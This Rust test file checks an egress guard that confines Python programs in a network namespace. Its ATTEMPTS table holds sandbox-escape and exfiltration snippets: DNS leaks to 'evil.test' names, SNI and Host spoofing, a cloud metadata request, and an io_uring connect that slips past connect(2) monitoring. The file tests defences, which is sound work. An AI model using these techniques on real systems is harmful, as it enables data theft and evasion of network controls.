//! Programs that have no network but their guard's sockets: a network namespace with nothing in it but loopback, where all TCP is
//! led to the forward proxy and all UDP to the DNS. The programs are other people's (Python, with the resolver and the TLS of the
//! system), and know nothing of a guard.
//!
//! Namespaces take root; without it these tests say so and look at nothing. They need `ip`, `nft` and `python3`.

use super::{Origin, Out, roots, rules};
use crate::world::{World, free_addr, may_make_networks};
use bartizan_core::egress::{Egress, Refusal};
use bartizan_core::event::{self, Outcome};
use bartizan_core::snapshot::EgressSide;
use bartizan_proxy::egress::doors::Sockets;
use rustix::thread::{LinkNameSpaceType, move_into_link_name_space};
use std::fs::File;
use std::net::SocketAddr;
use std::os::fd::AsFd;
use std::process::{Command, Output};
use std::sync::atomic::{AtomicU32, Ordering::Relaxed};

/// A namespace of the test's own, and an address outside of it that is no loopback one.
struct Space {
    name: String,
    outside: String,
}

static NUMBER: AtomicU32 = AtomicU32::new(0);

fn run(program: &str, args: &[&str]) -> Output {
    Command::new(program).args(args).output().unwrap_or_else(|error| panic!("`{program}` is installed: {error}"))
}

fn must(program: &str, args: &[&str]) {
    let output = run(program, args);
    assert!(output.status.success(), "{program} {args:?}: {}", String::from_utf8_lossy(&output.stderr));
}

impl Space {
    /// `None` where this user may not make one.
    fn new() -> Option<Self> {
        if !may_make_networks() {
            return None;
        }
        let number = NUMBER.fetch_add(1, Relaxed);
        let pid = std::process::id();
        let name = format!("bz-{pid}-{number}");
        // Of the range for benchmarks (RFC 2544), which nobody routes.
        let outside = format!("198.18.{}.{}", pid % 250, 1 + (pid / 250 + number) % 250);
        must("ip", &["netns", "add", &name]);
        must("ip", &["addr", "add", &format!("{outside}/32"), "dev", "lo"]);
        let space = Self { name, outside };
        // The host's resolver is not to be found in there; what the program asks is led to the guard.
        std::fs::create_dir_all(format!("/etc/netns/{}", space.name)).unwrap();
        std::fs::write(format!("/etc/netns/{}/resolv.conf", space.name), "nameserver 192.0.2.53\noptions timeout:1\n")
            .unwrap();
        must("ip", &["-n", &space.name, "link", "set", "lo", "up"]);
        // Every address is this machine's, so that packets come as far as the redirect; nothing leaves by loopback.
        must("ip", &["-n", &space.name, "route", "add", "local", "default", "dev", "lo"]);
        must("ip", &["-n", &space.name, "-6", "route", "add", "local", "default", "dev", "lo"]);
        Some(space)
    }

    /// Sockets inside, made by a thread that goes there and ends: nothing else of this process moves.
    fn sockets(&self, side: &EgressSide) -> Sockets {
        let (path, side) = (format!("/run/netns/{}", self.name), side.clone());
        let inside = std::thread::spawn(move || {
            let space = File::open(path).unwrap();
            move_into_link_name_space(space.as_fd(), Some(LinkNameSpaceType::Network)).unwrap();
            let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
            let _entered = runtime.enter();
            Sockets::open(&side).unwrap()
        });
        inside.join().unwrap()
    }

    /// Leads everything to the guard.
    fn capture(&self, side: &EgressSide) {
        let rules = format!(
            "table inet bartizan {{\n chain out {{\n type nat hook output priority -100;\n ip daddr 127.0.0.0/8 return\n ip6 daddr ::1 return\n \
             meta l4proto tcp redirect to :{}\n meta l4proto udp redirect to :{}\n }}\n}}\n",
            side.proxy.port(),
            side.dns.port()
        );
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("rules");
        std::fs::write(&file, rules).unwrap();
        must("ip", &["netns", "exec", &self.name, "nft", "-f", file.to_str().unwrap()]);
    }

    /// Runs a Python program inside and gives what it prints.
    async fn python(&self, program: &str, args: &[&str]) -> String {
        let mut command = tokio::process::Command::new("ip");
        command
            .args(["netns", "exec", &self.name, "timeout", "20", "python3", "-c", program])
            .args(args)
            .kill_on_drop(true);
        for name in
            ["HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy", "no_proxy", "NO_PROXY"]
        {
            command.env_remove(name);
        }
        let output = command.output().await.unwrap();
        String::from_utf8_lossy(&output.stdout).into_owned() + &String::from_utf8_lossy(&output.stderr)
    }

    async fn guard(&self, world: &World, rules: Egress) -> Out {
        let side = EgressSide { proxy: free_addr(), dns: free_addr(), rules };
        let sockets = self.sockets(&side);
        self.capture(&side);
        Out::on(world, side, sockets).await
    }
}

impl Drop for Space {
    fn drop(&mut self) {
        let _ = run("ip", &["netns", "del", &self.name]);
        let _ = run("ip", &["addr", "del", &format!("{}/32", self.outside), "dev", "lo"]);
        let _ = std::fs::remove_dir_all(format!("/etc/netns/{}", self.name));
    }
}

/// Fetches a page over TLS, judged by the roots in argv[2].
const FETCH: &str = "
import ssl, sys, urllib.request
context = ssl.create_default_context(cafile=sys.argv[2])
try:
    print(urllib.request.urlopen(sys.argv[1], timeout=5, context=context).read().decode())
except Exception as error:
    print('no:', error)
";

#[tokio::test]
async fn a_program_that_knows_of_no_guard_reaches_what_is_listed_and_nothing_else() {
    let Some(space) = Space::new() else { return };
    let world = World::new();
    let at = |port| SocketAddr::new(space.outside.parse().unwrap(), port);
    let tls = Origin::tls_at(&world, &["api.test", "evil.test"], at(free_addr().port())).await;
    let plain = Origin::at(at(free_addr().port()), None).await;
    let outside = &space.outside;
    let egress = format!(
        "[{{ host: api.test, ports: [{{0}}], addresses: [{outside}] }}, {{ host: plain.test, protocol: http, ports: [{{1}}], addresses: [{outside}] }}]"
    );
    let out = space.guard(&world, rules(&egress, &[&tls, &plain])).await;
    let dir = tempfile::tempdir().unwrap();
    let pem = dir.path().join("roots.pem");
    std::fs::write(&pem, roots(&world)).unwrap();
    let fetch = async |url: String| space.python(FETCH, &[&url, pem.to_str().unwrap()]).await;

    let (api, page) =
        (format!("https://api.test:{}/x", tls.addr.port()), format!("http://plain.test:{}/y", plain.addr.port()));
    assert_eq!(fetch(api).await.trim(), "hello");
    let closed = out.event(|it| it.outcome == Outcome::Closed && it.host.as_deref() == Some("api.test")).await;
    assert!(closed.bytes_up > 0 && closed.bytes_down > 0 && &*closed.protocol == "https", "{closed:?}");
    assert_eq!(fetch(page).await.trim(), "hello");

    // The same server under another name, the same name past its guard.
    assert!(fetch(format!("https://evil.test:{}/", tls.addr.port())).await.contains("no:"));
    let raw = "import socket, sys\ns = socket.create_connection((sys.argv[1], int(sys.argv[2])), 5)\ns.sendall(b'data that leaves')\nprint(len(s.recv(9)))";
    let heard = space.python(raw, &[&space.outside, &plain.addr.port().to_string()]).await;
    assert!(heard.trim() == "0" || heard.contains("Error"), "{heard}");
    assert!(!plain.heard().join("").contains("leaves"), "{:?}", plain.heard());
    out.event(|it| matches!(it.outcome, Outcome::Refused(_)) && it.host.is_none() && it.port == plain.addr.port())
        .await;
}

/// The third party of a service that may call it, and only through its guard, which adds what the service never holds.
#[tokio::test]
async fn a_third_party_is_reached_through_the_guard_alone_and_with_its_credential() {
    let Some(space) = Space::new() else { return };
    let world = World::new();
    let third_party =
        Origin::tls_at(&world, &["partner.test"], SocketAddr::new(space.outside.parse().unwrap(), 443)).await;
    let dir = tempfile::tempdir().unwrap();
    let (token, pem) = (dir.path().join("token"), dir.path().join("roots.pem"));
    std::fs::write(&token, "ephemeral-1\n").unwrap();
    std::fs::write(&pem, roots(&world)).unwrap();
    let egress = format!(
        "[{{ host: partner.test, https_originate: true, addresses: [{}], roots: {}, header: {{ name: authorization, file: {}, prefix: \"Bearer \" }} }}]",
        space.outside,
        pem.display(),
        token.display()
    );
    let out = space.guard(&world, rules(&egress, &[])).await;
    // Direct: over TLS past the reading guard, and to the address.
    let direct = space.python(FETCH, &["https://partner.test/", pem.to_str().unwrap()]).await;
    assert!(direct.contains("no:"), "{direct}");
    out.refused(Refusal::Protocol).await;
    let by_address = space.python(FETCH, &[&format!("https://{}/", space.outside), pem.to_str().unwrap()]).await;
    assert!(by_address.contains("no:"), "{by_address}");
    out.refused(Refusal::SniMissing).await;
    assert!(!third_party.heard().join("").contains("GET"), "{:?}", third_party.heard());
    // Through the guard: plain HTTP, led there by the kernel.
    let answer = space.python(FETCH, &["http://partner.test/v1", pem.to_str().unwrap()]).await;
    assert_eq!(answer.trim(), "hello");
    let heard = third_party.heard().join("");
    assert!(heard.contains("authorization: Bearer ephemeral-1") && heard.contains("host: partner.test\r\n"), "{heard}");
}

/// What is tried inside, in Python; `s` is a function that tries to send, and prints `TIME` first.
struct Attempt {
    why: &'static str,
    code: &'static str,
    /// How it is flagged; `None` where the kernel stops it by itself and nobody hears of it.
    flagged: Option<fn(&event::Egress) -> bool>,
}

fn is(it: &event::Egress, refusal: Refusal) -> bool {
    it.outcome == Outcome::Refused(refusal)
}

const ATTEMPTS: &[Attempt] = &[
    Attempt {
        why: "bytes to a raw address",
        code: "s = socket.create_connection(('1.2.3.4', 4444), 3); s.sendall(b'x' * 100); print(s.recv(9))",
        flagged: Some(|it| is(it, Refusal::RawAddress) && it.port == 4444),
    },
    Attempt {
        why: "a silent connection to a raw address",
        code: "s = socket.create_connection(('1.2.3.4', 4445), 3); print(s.recv(9))",
        flagged: Some(|it| is(it, Refusal::RawAddress) && it.port == 4445),
    },
    Attempt {
        why: "the same as another user",
        code: "socket.getaddrinfo('1.2.3.4', 1); os.setgid(65534); os.setuid(65534); s = socket.create_connection(('1.2.3.4', 4446), 3); s.sendall(b'x'); print(s.recv(9))",
        flagged: Some(|it| is(it, Refusal::RawAddress) && it.port == 4446),
    },
    Attempt {
        why: "the same over IPv6",
        code: "s = socket.create_connection(('2606:4700::1111', 4447), 3); s.sendall(b'x'); print(s.recv(9))",
        flagged: Some(|it| is(it, Refusal::RawAddress) && it.port == 4447 && it.address.is_some_and(|at| at.is_ipv6())),
    },
    Attempt {
        why: "DNS over HTTPS",
        code: "c = ssl.create_default_context(); c.wrap_socket(socket.create_connection(('1.1.1.1', 443), 3), server_hostname='cloudflare-dns.com')",
        flagged: Some(|it| is(it, Refusal::Undeclared) && it.host.as_deref() == Some("cloudflare-dns.com")),
    },
    Attempt {
        why: "DNS over TLS",
        code: "c = ssl.create_default_context(); c.wrap_socket(socket.create_connection(('9.9.9.9', 853), 3), server_hostname='dns.quad9.net')",
        flagged: Some(|it| is(it, Refusal::Undeclared) && it.host.as_deref() == Some("dns.quad9.net")),
    },
    Attempt {
        why: "a resolver of one's own choice",
        code: "u.sendto(bytes.fromhex('abcd01000001000000000000') + b'\\x06leaked\\x04evil\\x04test\\0\\0\\x01\\0\\x01', ('8.8.8.8', 53)); a = u.recv(99); print(a[3] & 15, a[7])",
        flagged: Some(|it| is(it, Refusal::NameUndeclared) && it.host.as_deref() == Some("leaked.evil.test")),
    },
    Attempt {
        why: "the system's resolver",
        code: "socket.getaddrinfo('data-that-leaves.evil.test', 443)",
        flagged: Some(|it| is(it, Refusal::NameUndeclared) && it.host.as_deref() == Some("data-that-leaves.evil.test")),
    },
    Attempt {
        why: "UDP",
        code: "u.sendto(b'data that leaves', ('1.2.3.4', 9999)); print(u.recv(99))",
        flagged: Some(|it| is(it, Refusal::BadQuery)),
    },
    Attempt {
        why: "QUIC",
        code: "u.sendto(bytes.fromhex('c300000001088394c8f03e5157080000449e') + bytes(1182), ('1.1.1.1', 443)); print(u.recv(99))",
        flagged: Some(|it| is(it, Refusal::BadQuery)),
    },
    Attempt {
        why: "a listed name, at another address",
        code: "c = ssl._create_unverified_context(); c.wrap_socket(socket.create_connection(('1.2.3.4', PORT), 3), server_hostname='api.test')",
        flagged: Some(|it| is(it, Refusal::AddressDisagrees) && it.host.as_deref() == Some("api.test")),
    },
    Attempt {
        why: "another name, at a listed address",
        code: "a = socket.getaddrinfo('api.test', PORT)[0][4][0]; c = ssl._create_unverified_context(); c.wrap_socket(socket.create_connection((a, PORT), 3), server_hostname='evil.test')",
        flagged: Some(|it| is(it, Refusal::Undeclared) && it.host.as_deref() == Some("evil.test")),
    },
    Attempt {
        why: "no name, at a listed address",
        code: "a = socket.getaddrinfo('api.test', PORT)[0][4][0]; c = ssl._create_unverified_context(); c.check_hostname = False; c.wrap_socket(socket.create_connection((a, PORT), 3))",
        flagged: Some(|it| is(it, Refusal::SniMissing)),
    },
    Attempt {
        why: "another Host, at a listed address",
        code: "a = socket.getaddrinfo('api.test', PORT)[0][4][0]; s = socket.create_connection((a, PORT), 3); s.sendall(b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'); print(s.recv(999))",
        flagged: Some(|it| is(it, Refusal::Undeclared) && &*it.protocol == "http"),
    },
    Attempt {
        why: "metadata",
        code: "s = socket.create_connection(('169.254.169.254', 80), 3); s.sendall(b'GET /latest/meta-data/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\n\\r\\n'); print(s.recv(999))",
        flagged: Some(|it| is(it, Refusal::Metadata)),
    },
    Attempt {
        why: "io_uring instead of connect",
        code: IO_URING,
        flagged: Some(|it| is(it, Refusal::RawAddress) && it.port == 4448),
    },
    Attempt {
        why: "the ports of the machine",
        code: "s = socket.create_connection(('127.0.0.1', HOST), 3); print(s.recv(9))",
        flagged: None,
    },
    Attempt {
        why: "a packet by hand",
        code: "r = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); r.bind(('eth0', 0)); r.send(bytes(60))",
        flagged: None,
    },
];

/// A ring, one submission: IORING_OP_CONNECT. Nothing that watches connect(2) sees it.
const IO_URING: &str = "
libc = ctypes.CDLL(None, use_errno=True)
params = (ctypes.c_uint32 * 30)()
ring = libc.syscall(425, 4, params)
if ring < 0:
    sys.exit('the kernel has no io_uring for us')
sq, cq = list(params[10:20]), list(params[20:30])
rings = mmap.mmap(ring, 4096, flags=mmap.MAP_SHARED, offset=0)
sqes = mmap.mmap(ring, 4096, flags=mmap.MAP_SHARED, offset=0x10000000)
t = socket.socket()
address = ctypes.create_string_buffer(struct.pack('=H', 2) + struct.pack('>H', 4448) + bytes([1, 2, 3, 4]) + bytes(8))
sqes[0:64] = struct.pack('=BBHiQQIIQQQQ', 16, 0, 0, t.fileno(), 16, ctypes.addressof(address), 0, 0, 7, 0, 0, 0)
rings[sq[6]:sq[6] + 4] = struct.pack('=I', 0)
rings[sq[1]:sq[1] + 4] = struct.pack('=I', 1)
print(libc.syscall(426, ring, 1, 1, 1, None, 0))
t.settimeout(3)
t.sendall(b'x')
print(t.recv(9))
";

#[tokio::test]
async fn every_way_round_is_stopped_and_flagged_within_a_second() {
    let Some(space) = Space::new() else { return };
    let world = World::new();
    let server =
        Origin::tls_at(&world, &["api.test"], SocketAddr::new(space.outside.parse().unwrap(), free_addr().port()))
            .await;
    let host_only = Origin::plain().await;
    let egress = format!("[{{ host: api.test, ports: [{{0}}], addresses: [{}] }}]", space.outside);
    let out = space.guard(&world, rules(&egress, &[&server])).await;
    let head = "import ctypes, mmap, os, socket, ssl, struct, sys, time\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.settimeout(3)\nprint('TIME', int(time.time() * 1000), flush=True)\n";
    for Attempt { why, code, flagged } in ATTEMPTS {
        let code =
            code.replace("PORT", &server.addr.port().to_string()).replace("HOST", &host_only.addr.port().to_string());
        let printed = space.python(&format!("{head}{code}"), &[]).await;
        let began: u64 = printed
            .split_whitespace()
            .nth(1)
            .and_then(|ms| ms.parse().ok())
            .unwrap_or_else(|| panic!("{why}: {printed}"));
        if printed.contains("no io_uring") {
            eprintln!("{why}: {printed}");
            continue;
        }
        let Some(flagged) = flagged else {
            assert!(printed.contains("Error"), "{why}: {printed}");
            continue;
        };
        let at = out
            .guard
            .event(|event| match &event.what {
                event::What::Egress(it) if flagged(it) && event.at.as_millis() >= began => Some(event.at.as_millis()),
                _ => None,
            })
            .await;
        assert!(at.saturating_sub(began) < 1_000, "{why}: flagged after {} ms; {printed}", at.saturating_sub(began));
    }
    assert_eq!((server.bytes(), host_only.bytes()), (0, 0), "nothing of it arrived: {:?}", server.heard());
}
